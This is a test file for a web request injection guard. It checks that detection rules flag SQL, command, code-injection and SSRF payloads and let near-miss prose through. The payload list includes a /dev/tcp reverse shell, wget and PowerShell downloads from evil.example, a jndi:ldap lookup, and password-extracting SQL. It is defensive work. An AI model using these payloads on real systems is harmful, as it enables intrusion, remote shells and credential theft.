import { test, after } from 'node:test'
import assert from 'node:assert/strict'
import { createInjectionGuard } from './injection-guard.js'
import { resolveInjectionGuardConfig } from './schema.js'
import type { RequestParts } from './extract.js'

const guard = createInjectionGuard(resolveInjectionGuardConfig())
after(() => guard.close())

const query = (value: string): RequestParts => ({ method: 'GET', path: '/v1/items', rawQuery: `q=${encodeURIComponent(value)}`, headers: { host: 'api.example.com' } })
const json = (value: unknown): RequestParts => ({
  method: 'POST',
  path: '/v1/items',
  rawQuery: '',
  headers: { host: 'api.example.com', 'content-type': 'application/json' },
  body: Buffer.from(JSON.stringify(value)),
})

/** Real payloads per rule family added in the second iteration, with the rule expected to fire. */
const CASES: [rule: string, payload: string][] = [
  ['pc-sqli-300', 'COALESCE(password, 1)'],
  ['pc-sqli-315', "1 AND ascii(substr(to_char(user_id),1,1))>64 OR nvl2(a,b,c)"],
  ['pc-sqli-301', "x';SELECT password FROM users"],
  ['pc-sqli-302', '@a:=(select user_login from wp_users limit 1)'],
  ['pc-sqli-303', 'select if(1=1,sleep(5),0)'],
  ['pc-sqli-304', '2.2250738585072011e-308'],
  ['pc-sqli-305', 'SELECT x GROUP BY y HAVING COUNT(id) >= 9'],
  ['pc-sqli-306', 'ALTER TABLE users ADD admin INT'],
  ['pc-sqli-307', "1' and unistr(password)::bool--"],
  ['pc-sqli-308', 'Xunionselectfrom'],
  ['pc-sqli-309', '` AS `edit_user_id` from'],
  ['pc-sqli-310', '1 /*!50000union*/ all'],
  ['pc-sqli-311', "admin@example.com';"],
  ['pc-sqli-312', `'{"a":1}' ?| array['a']`],
  ['pc-cmdi-300', 'x; sh -c whoami'],
  ['pc-cmdi-301', 'nohup bash -i'],
  ['pc-cmdi-302', 'ansible all -m ping'],
  ['pc-cmdi-303', 'cd /;cd etc;fold passwd'],
  ['pc-cmdi-304', 'c{a,oun}t /etc/hosts'],
  ['pc-cmdi-305', '!-1!-2'],
  ['pc-cmdi-306', '$(($() 42))'],
  ['pc-cmdi-308', '() { :; }; echo vulnerable'],
  ['pc-cmdi-309', 'if not (2 equ 2) echo hey'],
  ['pc-cmdi-310', 'type %SystemRoot%\\win.ini'],
  ['pc-cmdi-311', ';iwr http://evil.example/p.ps1'],
  ['pc-cmdi-313', ';irb<<<1 2'],
  ['pc-cmdi-314', 'd=/dev&&(sh)0>$d/tcp/192.0.2.7/777'],
  ['pc-cmdi-315', '|$u wget evil.example'],
  ['pc-code-301', 'while(!-0);'],
  ['pc-code-302', 'XyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCkK'],
  ['pc-code-303', "('system')('whoami')"],
  ['pc-code-304', 'exec  (blah)'],
  ['pc-code-305', '{php}echo "x"{/php}'],
  ['pc-code-306', 'session.referer_check=true'],
  ['pc-code-307', "$d['o'](9)"],
  ['pc-code-308', 'ssh2.exec://user:pw@example.com:22/id'],
  ['pc-code-309', '$\\u007Bjndi:ldap://evil.example/a}'],
  ['pc-code-310', 'console["info"](1)'],
  ['pc-ssrf-300', 'http:127.0.0.1'],
]

for (const [rule, payload] of CASES) {
  test(`${rule} fires on ${JSON.stringify(payload)} (query and JSON body)`, () => {
    for (const parts of [query(payload), json({ note: payload })]) {
      const verdict = guard.inspect(parts)
      assert.equal(verdict.block, true, `not blocked: ${payload}`)
      assert.ok(
        verdict.detections.some((d) => d.id === rule),
        `${rule} missing for ${payload}: ${verdict.detections.map((d) => d.id).join(', ')}`,
      )
    }
  })
}

test('file-name rules see multipart names and X-Filename headers', () => {
  for (const [rule, name] of [['pc-code-300', '/tmp/sess_d8ew88tqmabdcokhumchy8htqm'], ['pc-cmdi-317', 'wp-config_php.txt']] as const) {
    const verdict = guard.inspect({ method: 'PUT', path: '/upload', rawQuery: '', headers: { host: 'api.example.com', 'x-filename': name } })
    assert.ok(verdict.detections.some((d) => d.id === rule), `${rule}: ${JSON.stringify(verdict.detections)}`)
  }
})

test('near-miss prose and code stay clean', () => {
  const clean = [
    'Time to go home; the union selected a new chair from the members.',
    'Buy 2 as gifts from the shop',
    'Use str.replace(a, b) and arr.push(x) in JavaScript',
    'Firmware v2.4.1, range 0..60 m/s, tags {north,south}',
    'Hello ${name}, your order ships today',
    "O'Brien; D'Angelo",
  ]
  for (const text of clean) assert.equal(guard.inspect(json({ description: text })).block, false, text)
})
